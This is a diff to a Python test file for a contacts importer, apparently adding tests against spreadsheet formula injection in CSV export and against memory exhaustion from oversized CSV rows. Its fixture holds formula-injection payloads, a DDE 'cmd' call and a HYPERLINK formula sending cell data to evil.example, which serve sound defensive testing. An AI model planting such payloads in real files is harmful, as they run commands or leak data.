@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import os
 import zipfile
@@ -672,3 +673,157 @@ def test_vcard_export_of_odd_labels(store, normalizer, tmp_path):
         ]
     finally:
         other.close()
+
+
+# -- formulas in the CSV export (issue 11) ------------------------------------------------------
+
+HOSTILE = (
+    "name,phone,company,owner,email,note,=cmd|' /C calc'!A0\n"
+    '"=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",+7 495 134-30-60,+Romashka,@anna,'
+    "-x@y.z,'=already quoted,-2+3\n"
+    "'t Hooft,89066800404,@Acme,,,''=two quotes,\n"
+)
+
+
+def test_csv_export_writes_no_cell_a_spreadsheet_runs_and_reimports_exactly(store, normalizer, tmp_path):
+    summary = run(store, write(tmp_path, HOSTILE), normalizer)
+    assert (summary.imported, summary.skipped) == (2, [])
+    before = snapshot(store)
+    ivan = by_name(store)['=HYPERLINK("http://evil.example/?d="&A1,"Click")']
+    assert (ivan.company_name, ivan.email, ivan.note) == ("+Romashka", "-x@y.z", "=already quoted")
+    assert by_name(store)["'t Hooft"].note == "'=two quotes"
+    assert ivan.extra == {"owner": "@anna", "=cmd|' /C calc'!A0": "-2+3"}
+    out = io.StringIO(newline="")
+    export_contacts(store, out)
+
+    table = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    cells = [cell for row in table for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]  # OWASP's list
+    assert table[0][-1] == "'=cmd|' /C calc'!A0"
+    rows = {row[0]: row for row in table[1:]}
+    ivan_row = rows["'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"]
+    # A number stays readable: the quote is the spreadsheets' "this is text" mark.
+    assert ivan_row[1:6] == ["'+7 495 134-30-60", "'+Romashka", "'@anna", "'-x@y.z", "'=already quoted"]
+    assert rows["'t Hooft"][5] == "''=two quotes"  # a quote before no formula start stays as it is
+
+    exported = write(tmp_path, out.getvalue(), name="export.csv")
+    other = SqliteStore(tmp_path / "other.sqlite3")
+    try:
+        again = import_contacts(other, exported, normalizer)
+        assert (again.imported, again.updated, again.skipped) == (2, 0, [])
+        assert snapshot(other) == before
+    finally:
+        other.close()
+
+
+def test_the_text_mark_rule_round_trips_every_formula_start():
+    from app.protocol.text import FORMULA_STARTS, from_spreadsheet_cell, spreadsheet_cell
+
+    for start in FORMULA_STARTS:
+        for value in (f"{start}1+1", f"'{start}x", f"''{start}", start):
+            cell = spreadsheet_cell(value)
+            assert cell.startswith("'") and from_spreadsheet_cell(cell) == value, value
+    for value in ("", "Ivan", "'t Hooft", "''", "8 495 134-30-60", " =x", "\n=x"):
+        assert spreadsheet_cell(value) == value and from_spreadsheet_cell(value) == value, value
+
+
+# -- memory (issue 13) --------------------------------------------------------------------------
+
+#: Peak RSS an import of the hostile files below may reach (the interpreter with the importer's
+#: modules is ~40 MiB; before the bound they took 387 and 203 MiB).
+IMPORT_RSS_LIMIT_MIB = 150
+
+_MEASURE = """
+import sys
+from pathlib import Path
+from app.core.contacts_io import import_contacts
+from app.protocol.phones import PhoneNormalizer
+from app.storage import SqliteStore
+store = SqliteStore(Path(sys.argv[2]))
+summary = import_contacts(store, Path(sys.argv[1]), PhoneNormalizer("RU"))
+store.close()
+status = Path("/proc/self/status").read_text()
+print(int(status.split("VmHWM:")[1].split()[0]) // 1024)
+print(summary.imported, len(summary.skipped))
+for issue in summary.warnings:
+    print(issue.line, issue.reason)
+"""
+
+
+needs_proc = pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads VmHWM from /proc")
+
+
+def peak_import_rss(path: Path, database: Path) -> tuple[int, list[str]]:
+    """Import ``path`` in a fresh interpreter; its peak RSS in MiB and what it printed.
+
+    The peak is the kernel's VmHWM of the new program, not ``getrusage``'s ``ru_maxrss``: Linux
+    carries the parent's high-water mark over ``fork``/``exec`` into ``ru_maxrss``, so under a
+    pytest process of 200 MiB every child would "peak" at 200 MiB.
+    """
+    import subprocess
+    import sys
+
+    done = subprocess.run([sys.executable, "-c", _MEASURE, str(path), str(database)], capture_output=True,
+                          text=True, timeout=300, check=False, cwd=Path(__file__).resolve().parents[1])
+    assert done.returncode == 0, done.stderr[-3000:]
+    lines = done.stdout.splitlines()
+    return int(lines[0]), lines[1:]
+
+
+@needs_proc
+def test_a_row_of_a_million_columns_is_cut_and_memory_stays_bounded(tmp_path):
+    path = tmp_path / "wide.csv"
+    with path.open("w", newline="") as f:
+        f.write("name,phone,position\nIvan,84951343060,boss," + ",".join(f"value{i:07d}" for i in range(1_000_000)))
+        f.write("\nPetr,89066800404,clerk\n")
+    assert path.stat().st_size > 12_000_000
+    database = tmp_path / "db.sqlite3"
+    peak, printed = peak_import_rss(path, database)
+    assert peak < IMPORT_RSS_LIMIT_MIB, f"peak RSS {peak} MiB"
+    assert printed[0] == "2 0"
+    assert any(line.startswith("2 the row holds more than an import keeps of one row (256 values, 65,536 characters),"
+                               " so it was cut: 999,747 values left out") for line in printed), printed
+    store = SqliteStore(database)
+    try:
+        contacts = {c.name: c for c in all_contacts(store)}
+    finally:
+        store.close()
+    ivan = contacts["Ivan"]
+    assert keys(ivan) == [MOSCOW] and ivan.extra["position"] == "boss"
+    assert len(ivan.extra) == 256 - 2 and ivan.extra["column 4"] == "value0000000"
+    assert contacts["Petr"].extra == {"position": "clerk"}
+
+
+@needs_proc
+def test_rows_of_huge_cells_are_cut_and_memory_stays_bounded(tmp_path):
+    path = tmp_path / "huge.csv"
+    cell = "я" * 60_000
+    with path.open("w", encoding="utf-8", newline="") as f:
+        f.write("name,phone,note\n")
+        for n in range(100):
+            f.write(f"Row {n},8906{n:07d},{cell}," + ",".join([cell] * 4) + "\n")
+    assert path.stat().st_size > 50_000_000
+    database = tmp_path / "db.sqlite3"
+    peak, printed = peak_import_rss(path, database)
+    assert peak < IMPORT_RSS_LIMIT_MIB, f"peak RSS {peak} MiB"
+    assert printed[0] == "100 0"
+    assert sum("so it was cut: 3 values left out and 1 cut short" in line for line in printed) == 100
+    store = SqliteStore(database)
+    try:
+        contacts = all_contacts(store)
+    finally:
+        store.close()
+    for contact in contacts:
+        kept = len(contact.name) + sum(len(p.raw) for p in contact.phones) + len(contact.note or "")
+        kept += sum(len(v) for v in contact.extra.values())
+        assert kept == 64 * 1024 and contact.note == cell and list(contact.extra) == ["column 4"]
+
+
+def test_a_long_row_within_the_bounds_is_kept_whole(store, normalizer, tmp_path):
+    text = "name,phone,note\n" + "Ivan,84951343060; 89066800404," + "n" * 60_000 + "," + ",".join(
+        f"v{i}" for i in range(200)) + "\n"
+    summary = run(store, write(tmp_path, text), normalizer)
+    assert summary.imported == 1
+    assert not [w for w in summary.warnings if "cut" in w.reason]
+    (ivan,) = all_contacts(store)
+    assert len(ivan.note or "") == 60_000 and len(ivan.extra) == 200 and keys(ivan) == [MOSCOW, MOBILE]
